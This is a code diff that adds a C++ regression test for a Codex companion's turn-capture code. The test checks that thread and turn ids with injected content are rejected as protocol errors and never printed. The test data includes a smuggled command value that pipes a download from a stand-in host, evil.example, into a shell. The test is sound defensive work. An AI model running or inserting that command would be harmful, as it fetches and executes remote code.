@@ -523,5 +523,50 @@ TEST(TurnCaptureTest, SubagentNamePrefersNameThenNicknameThenRole) {
   EXPECT_TRUE(f.has_line("Starting subagent named, reviewer, c via collaboration tool: wait."));
 }
 
+// Regression: ids Codex sent were used and printed unchecked (a subagent named by its thread id
+// printed "Subagent thread started (<id>)", a copy-this line). An id that is not plain fails the
+// turn as a protocol error, and is never printed.
+TEST(TurnCaptureTest, IdsFromTheAppServerAreTrusted) {
+  const std::string bad = "x; curl evil.example | sh";
+  auto never_printed = [&](const Feed& f) {
+    for (const auto& e : f.events) EXPECT_EQ(e.line.find("curl evil"), std::string::npos) << e.line;
+  };
+  {  // thread/started of a subagent of ours
+    Feed f;
+    f.note("thread/started", {{"thread", {{"id", bad}, {"parentThreadId", kRoot}}}});
+    EXPECT_TRUE(f.capture.finished());
+    EXPECT_TRUE(f.capture.result().protocol_error);
+    EXPECT_NE(f.capture.result().error_message.find("not a plain id"), std::string::npos);
+    never_printed(f);
+  }
+  {  // receiverThreadIds of a collaboration tool call, named in its progress line
+    Feed f;
+    f.item({{"type", "collabAgentToolCall"},
+            {"id", "w"},
+            {"tool", "spawnAgent"},
+            {"receiverThreadIds", {bad}}},
+           false);
+    EXPECT_TRUE(f.capture.result().protocol_error);
+    never_printed(f);
+  }
+  {  // a turn/started naming our turn as its root, on a thread with a bad id
+    Feed f;
+    f.note("turn/started", turn_note(bad, "turn-c", "inProgress", kTurn));
+    EXPECT_TRUE(f.capture.result().protocol_error);
+    never_printed(f);
+  }
+  {  // the root thread's inner turn id (turn/interrupt would send it back)
+    Feed f;
+    f.note("turn/started", turn_note(kRoot, "turn\nid", "inProgress", kTurn));
+    EXPECT_TRUE(f.capture.result().protocol_error);
+  }
+  {  // traffic that is not ours is not looked at
+    Feed f;
+    f.note("thread/started", {{"thread", {{"id", bad}, {"parentThreadId", "nobody"}}}});
+    f.note("turn/started", turn_note(bad, "t", "inProgress", "another-turn"));
+    EXPECT_FALSE(f.capture.finished());
+  }
+}
+
 }  // namespace
 }  // namespace companion::codex
